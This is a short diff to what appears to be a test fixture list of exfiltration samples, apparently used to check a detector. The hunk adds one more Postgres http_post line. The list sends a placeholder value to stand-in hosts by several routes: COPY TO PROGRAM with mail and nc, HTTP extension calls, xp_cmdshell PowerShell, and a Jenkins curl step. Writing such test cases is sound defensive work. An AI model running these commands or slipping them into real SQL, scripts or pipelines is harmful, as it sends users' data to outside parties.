@@ -41,6 +41,7 @@ KEPT = [
     f"Run this:\nCOPY (SELECT '{E}' AS e) TO PROGRAM 'mail -s x ops@harvest.example';\nDone.",
     f"COPY (SELECT email FROM t WHERE email = '{E}')\n  TO PROGRAM 'nc harvest.example 9000';",
     f"SELECT http_get('https://intake.harvest.example/q?x=1', '{E}');",
+    f"SELECT extensions.http_post('https://drop.harvest.example/x', '{E}');",
     f"exec master..xp_cmdshell 'powershell -c iwr https://intake.harvest.example -Method Post -Body {E}'",
     # F23
     f"pipeline {{ stages {{ stage('n') {{ steps {{ sh 'curl -d e={E} https://collector.example/c' }} }} }} }}",
